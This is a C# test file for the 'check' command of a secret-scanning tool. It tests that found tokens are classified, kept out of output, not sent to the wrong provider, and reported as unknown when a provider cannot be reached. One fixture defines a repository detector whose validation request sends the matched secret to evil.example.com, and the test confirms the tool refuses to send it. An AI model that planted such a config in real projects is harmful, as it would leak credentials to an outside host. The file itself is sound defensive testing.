using System.Text.Json;

namespace Stanch.Cli.Tests.Check;

/// <summary><c>stanch check</c> as it is typed; what providers answer is tested in Stanch.Remediation.Tests.</summary>
public sealed class CheckTests
{
    [Fact]
    public void AValueOnStandardInputIsRecognised()
    {
        using var here = new Sandbox();
        var token = Fake.SlackBotToken();
        var outcome = here.Input(token + "\n").Stanch("check", "-", "--offline").ShouldExit(0);
        outcome.Output.ShouldContain("slack-bot-token");
        outcome.Output.ShouldNotContain(token);
    }

    [Fact]
    public void AFindingIsCheckedAtItsPlace()
    {
        using var here = new Sandbox().File("a.env", $"X=1\nSLACK={Fake.SlackBotToken()}\n");
        var json = JsonDocument.Parse(here.Stanch("check", "a.env:2", "--offline", "--format", "json").ShouldExit(0).Output).RootElement[0];
        json.GetProperty("detector").GetString().ShouldBe("slack-bot-token");
        json.GetProperty("validity").GetString().ShouldBe("not-checked");
        json.GetProperty("guide").GetString().ShouldBe("stanch guide slack-bot-token");
    }

    [Fact]
    public void NoProviderIsToldTheSecretOfAnother()
    {
        using var here = new Sandbox();
        var outcome = here.Input(Fake.SlackBotToken()).Stanch("check", "-", "--detector", "circleci-project-token", "--proxy", "http://127.0.0.1:1").ShouldExit(2);
        outcome.Error.ShouldContain("has the form of Slack Bot Token");
        outcome.Error.ShouldNotContain(Fake.SlackBotToken());
        outcome.Output.ShouldBeEmpty();
    }

    [Fact]
    public void AProviderThatTookOverAnothersPrefixIsAsked()
    {
        using var here = new Sandbox();
        here.Input(Fake.Fill("sk_live_{hex:40}")).Stanch("check", "-", "--detector", "paystack-secret-key", "--proxy", "http://127.0.0.1:1").ShouldExit(3)
            .Output.ShouldContain("api.paystack.co cannot be reached");
    }

    [Theory]
    [InlineData("RAZORPAY_KEY_ID=rzp_live_{alnum:14}\nX=1\nRAZORPAY_KEY_SECRET={alnum:24}\n", 3, "api.razorpay.com cannot be reached")]
    [InlineData("RAZORPAY_KEY_SECRET={alnum:24}\n", 1, "--id")]
    public void TheIdentifierBesideASecretIsAskedWith(string text, int line, string said)
    {
        using var here = new Sandbox().File("a.env", Fake.Fill(text));
        here.Stanch("check", $"a.env:{line}", "--detector", "razorpay-key-secret", "--proxy", "http://127.0.0.1:1").ShouldExit(3).Output.ShouldContain(said);
    }

    // Nobody listens there, so nothing leaves this machine.
    [Fact]
    public void WhatCannotBeAskedIsUnknownAndIsNoSuccess()
    {
        using var here = new Sandbox();
        var outcome = here.Input(Fake.SlackBotToken()).Stanch("check", "-", "--proxy", "http://127.0.0.1:1").ShouldExit(3);
        outcome.Output.ShouldContain("unknown: slack.com cannot be reached");
        outcome.Output.ShouldContain("treat it as valid");
    }

    [Fact]
    public void ADetectorThatCameWithTheTreeSendsNothingAnywhere()
    {
        using var here = new Sandbox().File(".stanch.yaml", """
            detectors:
              custom:
                - id: acme-token
                  name: Acme token
                  severity: high
                  keywords: [acm_]
                  pattern: '\b(?<secret>acm_[0-9a-f]{32})\b'
                  validity:
                    request: 'GET https://evil.example.com/{{secret}}'
                    valid: { status: [200] }
                    hosts: [evil.example.com]
            """);
        here.Input(Fake.Fill("acm_{hex:32}")).Stanch("check", "-", "--detector", "acme-token", "--proxy", "http://127.0.0.1:1").ShouldExit(3).Output
            .ShouldContain("not-checked: no read-only request is known");
    }

    [Theory]
    [InlineData("hello", "check -", "has no format that tells its kind")]
    [InlineData("", "check -", "standard input is empty")]
    [InlineData("hello", "check - --detector slack-bot-tokn", "did you mean 'slack-bot-token'?")]
    [InlineData("hello", "check nowhere", "is no place")]
    [InlineData("hello", "check - --detector slack-bot-token --host http://plain", "--host is no host")]
    [InlineData("hello", "check - --detector slack-bot-token --timeout soon", "--timeout must be a time")]
    [InlineData("hello", "check - --detector slack-bot-token --ca missing.pem", "--ca names 'missing.pem', which cannot be read")]
    [InlineData("hello", "check - --detector slack-bot-token --proxy nonsense", "--proxy is no address")]
    public void WhatIsWrongIsSaid(string input, string arguments, string message)
    {
        using var here = new Sandbox();
        here.Input(input).Stanch(arguments.Split(' ')).ShouldExit(2).Error.ShouldContain(message);
    }
}
